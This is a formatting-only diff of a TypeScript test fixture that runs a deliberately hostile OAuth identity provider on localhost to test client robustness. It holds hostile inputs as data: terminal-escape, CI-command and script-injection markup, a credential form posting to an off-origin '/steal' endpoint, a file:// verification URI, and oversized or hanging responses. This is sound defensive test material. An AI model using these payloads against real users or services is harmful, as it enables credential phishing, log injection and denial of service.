@@ -61,7 +61,12 @@ export const SECRETS = {
 } as const;
 export const REDIRECT_URI = 'https://client.example.test/cb';
 
-export interface Recorded { method: string; url: string; headers: Record<string, string | string[] | undefined>; body: string }
+export interface Recorded {
+  method: string;
+  url: string;
+  headers: Record<string, string | string[] | undefined>;
+  body: string;
+}
 
 export interface HostileIdp {
   issuer: string;
@@ -80,8 +85,10 @@ export interface HostileIdp {
 
 /** The text a hostile IdP puts in whatever the harness may quote. */
 export function markupPayload(offOrigin: string): string {
-  return `bearer\x1b[2J\x1b[31m\n  PASS  everything.is-fine (1 ms)\r\n::add-mask::hostile\n::warning title=pwned::owned\u2028`
-    + `<img src="${offOrigin}/beacon.png"> ![beacon](${offOrigin}/beacon2.png) [click](${offOrigin}/x) <script>alert(1)</script>`;
+  return (
+    `bearer\x1b[2J\x1b[31m\n  PASS  everything.is-fine (1 ms)\r\n::add-mask::hostile\n::warning title=pwned::owned\u2028` +
+    `<img src="${offOrigin}/beacon.png"> ![beacon](${offOrigin}/beacon2.png) [click](${offOrigin}/x) <script>alert(1)</script>`
+  );
 }
 
 async function readBody(req: IncomingMessage): Promise<string> {
@@ -91,7 +98,9 @@ async function readBody(req: IncomingMessage): Promise<string> {
 }
 
 function listen(server: ReturnType<typeof createServer>): Promise<string> {
-  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
+  return new Promise((resolve) =>
+    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
+  );
 }
 
 let bomb: Buffer | undefined;
@@ -112,43 +121,74 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
   const offOriginRequests: Recorded[] = [];
   const pending = new Map<string, Record<string, string>>();
   const codes = new Map<string, Record<string, string>>();
-  const mint = (bytes = 24) => { const v = randomBytes(bytes).toString('base64url'); issued.push(v); return v; };
+  const mint = (bytes = 24) => {
+    const v = randomBytes(bytes).toString('base64url');
+    issued.push(v);
+    return v;
+  };
   let issuer = '';
   let offOrigin = '';
   const sockets = new Set<import('node:net').Socket>();
 
   const json = (res: ServerResponse, status: number, body: unknown, headers: Record<string, string> = {}): void => {
-    res.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', ...headers }).end(typeof body === 'string' ? body : JSON.stringify(body));
+    res
+      .writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', ...headers })
+      .end(typeof body === 'string' ? body : JSON.stringify(body));
   };
   const html = (res: ServerResponse, status: number, body: string): void => {
-    res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'x-frame-options': 'DENY' }).end(`<!doctype html><html><head><title>Hostile IdP</title></head><body>${body}</body></html>`);
+    res
+      .writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'x-frame-options': 'DENY' })
+      .end(`<!doctype html><html><head><title>Hostile IdP</title></head><body>${body}</body></html>`);
   };
 
   const loginPage = (id: string): string => {
     const action = mode === 'form-action-off-origin' ? `${offOrigin}/steal` : '/login';
-    const extra = mode === 'offsite-assets' ? `<img src="${offOrigin}/tracker.png" alt=""><link rel="stylesheet" href="${offOrigin}/style.css">` : '';
-    return `${extra}<form method="post" action="${action}"><input type="hidden" name="req" value="${id}">`
-      + '<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>';
+    const extra =
+      mode === 'offsite-assets'
+        ? `<img src="${offOrigin}/tracker.png" alt=""><link rel="stylesheet" href="${offOrigin}/style.css">`
+        : '';
+    return (
+      `${extra}<form method="post" action="${action}"><input type="hidden" name="req" value="${id}">` +
+      '<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>'
+    );
   };
 
   const tokens = async (params: Record<string, string>, clientId: string) => {
     const accessToken = mint();
     const idToken = await new jose.SignJWT({ sub: 'user-1', ...(params.nonce ? { nonce: params.nonce } : {}) })
-      .setProtectedHeader({ alg: 'RS256', kid: 'h1' }).setIssuer(issuer).setAudience(clientId).setIssuedAt().setExpirationTime('10m').sign(privateKey);
+      .setProtectedHeader({ alg: 'RS256', kid: 'h1' })
+      .setIssuer(issuer)
+      .setAudience(clientId)
+      .setIssuedAt()
+      .setExpirationTime('10m')
+      .sign(privateKey);
     issued.push(idToken);
-    return { access_token: accessToken, token_type: 'Bearer', expires_in: 3600, id_token: idToken, refresh_token: mint(), scope: params.scope ?? 'openid' };
+    return {
+      access_token: accessToken,
+      token_type: 'Bearer',
+      expires_in: 3600,
+      id_token: idToken,
+      refresh_token: mint(),
+      scope: params.scope ?? 'openid',
+    };
   };
 
   async function tokenEndpoint(req: IncomingMessage, res: ServerResponse, body: string): Promise<void> {
     const form = Object.fromEntries(new URLSearchParams(body));
     const basic = /^Basic (.+)$/i.exec(req.headers.authorization ?? '')?.[1];
-    const [id = '', secret = ''] = basic ? Buffer.from(basic, 'base64').toString().split(':').map((s) => decodeURIComponent(s.replace(/\+/g, ' '))) : [form.client_id ?? '', form.client_secret ?? ''];
+    const [id = '', secret = ''] = basic
+      ? Buffer.from(basic, 'base64')
+          .toString()
+          .split(':')
+          .map((s) => decodeURIComponent(s.replace(/\+/g, ' ')))
+      : [form.client_id ?? '', form.client_secret ?? ''];
     const known: Record<string, string> = { machine: SECRETS.machine, web: SECRETS.confidential };
     if (known[id] === undefined || known[id] !== secret) {
       return json(res, 401, { error: 'invalid_client' }, { 'www-authenticate': 'Basic realm="hostile"' });
     }
     switch (mode) {
-      case 'hang': return; // never answers
+      case 'hang':
+        return; // never answers
       case 'huge-body': {
         res.writeHead(200, { 'content-type': 'application/json' });
         const chunk = Buffer.alloc(1024 * 1024, 0x20);
@@ -174,15 +214,27 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
       case 'markup':
         return json(res, 200, { access_token: mint(), token_type: markupPayload(offOrigin), expires_in: 3600 });
       case 'harness-words':
-        return json(res, 200, { access_token: 'failed', token_type: 'Bearer', refresh_token: 'critical', expires_in: 3600 });
+        return json(res, 200, {
+          access_token: 'failed',
+          token_type: 'Bearer',
+          refresh_token: 'critical',
+          expires_in: 3600,
+        });
       case 'huge-token': {
         const big = mint(30 * 1024); // 40 KiB of base64url
-        return json(res, 200, { padding: 'p'.repeat(31_000), access_token: big, token_type: 'Bearer', refresh_token: mint(), expires_in: 3600 });
+        return json(res, 200, {
+          padding: 'p'.repeat(31_000),
+          access_token: big,
+          token_type: 'Bearer',
+          refresh_token: mint(),
+          expires_in: 3600,
+        });
       }
       default:
         break;
     }
-    if (form.grant_type === 'client_credentials') return json(res, 200, { access_token: mint(), token_type: 'Bearer', expires_in: 3600 });
+    if (form.grant_type === 'client_credentials')
+      return json(res, 200, { access_token: mint(), token_type: 'Bearer', expires_in: 3600 });
     if (form.grant_type === 'authorization_code') {
       const params = codes.get(form.code ?? '');
       if (!params) return json(res, 400, { error: 'invalid_grant' });
@@ -208,7 +260,11 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
           device_authorization_endpoint: at('/device'),
           response_types_supported: ['code'],
           subject_types_supported: ['public'],
-          grant_types_supported: ['authorization_code', 'client_credentials', 'urn:ietf:params:oauth:grant-type:device_code'],
+          grant_types_supported: [
+            'authorization_code',
+            'client_credentials',
+            'urn:ietf:params:oauth:grant-type:device_code',
+          ],
           code_challenge_methods_supported: ['S256'],
           token_endpoint_auth_methods_supported: ['client_secret_basic', 'client_secret_post'],
           id_token_signing_alg_values_supported: ['RS256'],
@@ -221,8 +277,14 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
         if (mode === 'redirect-off-origin') {
           return void res.writeHead(302, { location: `${offOrigin}/login${url.search}` }).end();
         }
-        if (mode === 'many-buttons') return html(res, 200, `<form method="post" action="/login">${'<button name="b" value="1">Go</button>'.repeat(50_000)}</form>`);
-        if (mode === 'unclosed-tags') return html(res, 200, `<form method="post" action="/login">${'<button><select><textarea>'.repeat(40_000)}`);
+        if (mode === 'many-buttons')
+          return html(
+            res,
+            200,
+            `<form method="post" action="/login">${'<button name="b" value="1">Go</button>'.repeat(50_000)}</form>`,
+          );
+        if (mode === 'unclosed-tags')
+          return html(res, 200, `<form method="post" action="/login">${'<button><select><textarea>'.repeat(40_000)}`);
         const id = randomBytes(12).toString('hex');
         pending.set(id, Object.fromEntries(url.searchParams));
         return html(res, 200, loginPage(id));
@@ -230,7 +292,8 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
       case '/login': {
         const form = Object.fromEntries(new URLSearchParams(body));
         const params = pending.get(form.req ?? '');
-        if (!params || form.username !== 'alice' || form.password !== SECRETS.password) return html(res, 200, loginPage(form.req ?? ''));
+        if (!params || form.username !== 'alice' || form.password !== SECRETS.password)
+          return html(res, 200, loginPage(form.req ?? ''));
         pending.delete(form.req ?? '');
         const code = mint();
         codes.set(code, params);
@@ -245,7 +308,10 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
         return json(res, 200, { sub: 'user-1' });
       case '/device':
         return json(res, 200, {
-          device_code: mint(), user_code: 'WDJB-MJHT', expires_in: 600, interval: 1,
+          device_code: mint(),
+          user_code: 'WDJB-MJHT',
+          expires_in: 600,
+          interval: 1,
           verification_uri: mode === 'file-verification' ? 'file:///etc/hostname' : at('/activate'),
         });
       default:
@@ -254,26 +320,48 @@ export async function startHostileIdp(mode: Mode): Promise<HostileIdp> {
   }
 
   const server = createServer((req, res) => {
-    void handle(req, res).catch((error: unknown) => { if (!res.headersSent) json(res, 500, { error: 'server_error', error_description: String(error) }); });
+    void handle(req, res).catch((error: unknown) => {
+      if (!res.headersSent) json(res, 500, { error: 'server_error', error_description: String(error) });
+    });
   });
-  server.on('connection', (s) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
+  server.on('connection', (s) => {
+    sockets.add(s);
+    s.on('close', () => sockets.delete(s));
+  });
   const off = createServer((req, res) => {
     void readBody(req).then((body) => {
       offOriginRequests.push({ method: req.method ?? 'GET', url: req.url ?? '/', headers: req.headers, body });
-      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>off origin</title><form method="post" action="/steal"><input name="username"><input type="password" name="password"><button>Sign in</button></form>');
+      res
+        .writeHead(200, { 'content-type': 'text/html' })
+        .end(
+          '<!doctype html><title>off origin</title><form method="post" action="/steal"><input name="username"><input type="password" name="password"><button>Sign in</button></form>',
+        );
     });
   });
-  off.on('connection', (s) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
+  off.on('connection', (s) => {
+    sockets.add(s);
+    s.on('close', () => sockets.delete(s));
+  });
   issuer = await listen(server);
   offOrigin = await listen(off);
 
   return {
-    issuer, offOrigin, mode, issued, requests, offOriginRequests,
+    issuer,
+    offOrigin,
+    mode,
+    issued,
+    requests,
+    offOriginRequests,
     config: (extra = {}) => ({
       issuer,
       clients: {
         machine: { clientId: 'machine', clientSecret: SECRETS.machine, scope: 'api' },
-        confidential: { clientId: 'web', clientSecret: SECRETS.confidential, redirectUri: REDIRECT_URI, scope: 'openid' },
+        confidential: {
+          clientId: 'web',
+          clientSecret: SECRETS.confidential,
+          redirectUri: REDIRECT_URI,
+          scope: 'openid',
+        },
         device: { clientId: 'machine', clientSecret: SECRETS.machine, authMethod: 'client_secret_basic' },
       },
       user: { username: 'alice', password: SECRETS.password },
